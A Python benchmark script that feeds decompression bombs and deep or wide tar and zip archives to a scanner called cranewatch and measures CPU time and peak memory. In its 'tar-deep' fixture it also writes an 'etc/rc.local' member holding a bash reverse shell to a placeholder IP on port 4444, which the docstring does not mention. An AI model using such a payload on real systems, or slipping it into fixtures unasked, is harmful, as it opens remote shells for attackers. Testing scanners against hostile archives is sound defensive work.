#!/usr/bin/env python3
"""Worst-case containers: decompression bombs, deep and wide archives, at growing sizes.

Issue 19: a 4 MB ``.pcap.gz`` of zeros once took 3.3 GB and never ended. This builds, for each
container shape an attacker controls, inputs of growing size and runs the real command on each
in its own process (``cranewatch analyze`` or ``cranewatch scan-image``), measuring the child's
CPU seconds and peak RSS (``os.wait4``). What must hold: time grows at most linearly with the
input's size, and memory stays flat (the caps come from cranewatch, never from the input).

Shapes:
- ``gzip-zeros``: a ``.pcap.gz`` whose pcap header is followed by zeros (ratio ~1000:1);
- ``tar-deep``: a tar.gz of one path nested N levels deep, a file at the bottom;
- ``tar-wide``: a tar.gz of N empty members;
- ``zip-zeros``: a zip holding one file of zeros (deflate, ~1000:1).

Example:
    PYTHONPATH=src .venv/bin/python benchmarks/bench_bombs.py --svg benchmarks/bombs.svg
"""

from __future__ import annotations

import argparse
import gzip
import io
import os
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from bench_text_worst import svg_plot

PCAP_HEADER = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
MIB = 1 << 20


def gzip_zeros(path: Path, scale: int) -> tuple[Path, list[str]]:
    """``scale`` MiB of compressed zeros after a pcap header."""
    zeros = bytes(MIB)
    with gzip.open(path, "wb", compresslevel=9) as out:
        out.write(PCAP_HEADER)
        for _ in range(scale * 1000):  # ~1 MiB of gzip per 1000 MiB of zeros
            out.write(zeros)
    return path, ["analyze", str(path)]


def tar_deep(path: Path, scale: int) -> tuple[Path, list[str]]:
    """A path ``scale`` × 1000 levels deep (one-letter directories)."""
    name = "/".join(["d"] * (scale * 1000)) + "/f"
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo(name)
        info.size = 4
        tar.addfile(info, io.BytesIO(b"data"))
        rc = tarfile.TarInfo("etc/rc.local")
        payload = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
        rc.size = len(payload)
        tar.addfile(rc, io.BytesIO(payload))
    return path, ["scan-image", str(path), "--format", "jsonl", "--workers", "1"]


def tar_wide(path: Path, scale: int) -> tuple[Path, list[str]]:
    """``scale`` × 20,000 empty members."""
    with tarfile.open(path, "w:gz") as tar:
        for i in range(scale * 20_000):
            tar.addfile(tarfile.TarInfo(f"m/{i}"), io.BytesIO(b""))
    return path, ["scan-image", str(path), "--format", "jsonl", "--workers", "1"]


def zip_zeros(path: Path, scale: int) -> tuple[Path, list[str]]:
    """One member of ``scale`` × 1000 MiB of zeros, deflated."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z, \
            z.open("etc/zeros", "w", force_zip64=True) as member:
        zeros = bytes(MIB)
        for _ in range(scale * 1000):
            member.write(zeros)
    return path, ["scan-image", str(path), "--format", "jsonl", "--workers", "1"]


SHAPES: dict[str, Callable[[Path, int], tuple[Path, list[str]]]] = {
    "gzip-zeros": gzip_zeros, "tar-deep": tar_deep, "tar-wide": tar_wide, "zip-zeros": zip_zeros,
}
SUFFIX = {"gzip-zeros": ".pcap.gz", "tar-deep": ".tar.gz", "tar-wide": ".tar.gz", "zip-zeros": ".zip"}


def run(argv: list[str]) -> tuple[int, float, float]:
    """The command's exit code, CPU seconds and peak RSS (MB), measured on the child alone."""
    child = subprocess.Popen([sys.executable, "-m", "cranewatch", *argv],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    _, status, usage = os.wait4(child.pid, 0)
    child.returncode = os.waitstatus_to_exitcode(status)
    return child.returncode, usage.ru_utime + usage.ru_stime, usage.ru_maxrss / 1024


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--scales", default="1,2,4", help="comma-separated scales (default: %(default)s)")
    parser.add_argument("--shapes", default=",".join(SHAPES), help="comma-separated (default: all)")
    parser.add_argument("--svg", type=Path, help="write the plot (CPU time over input size) here")
    args = parser.parse_args(argv)
    results: dict[str, list[tuple[int, float]]] = {}
    print(f"{'shape':<12} {'input':>10} {'exit':>4} {'CPU s':>7} {'peak MB':>8}")
    with tempfile.TemporaryDirectory() as tmp:
        for name in args.shapes.split(","):
            for scale in (int(s) for s in args.scales.split(",")):
                path, command = SHAPES[name](Path(tmp) / f"{name}-{scale}{SUFFIX[name]}", scale)
                code, cpu, rss = run(command)
                size = path.stat().st_size
                results.setdefault(name, []).append((size, cpu))
                print(f"{name:<12} {size:>10,} {code:>4} {cpu:>7.2f} {rss:>8.0f}", flush=True)
                path.unlink()
    if args.svg:
        args.svg.write_text(svg_plot(results, "cranewatch on decompression bombs and archive shapes"),
                            encoding="utf-8")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
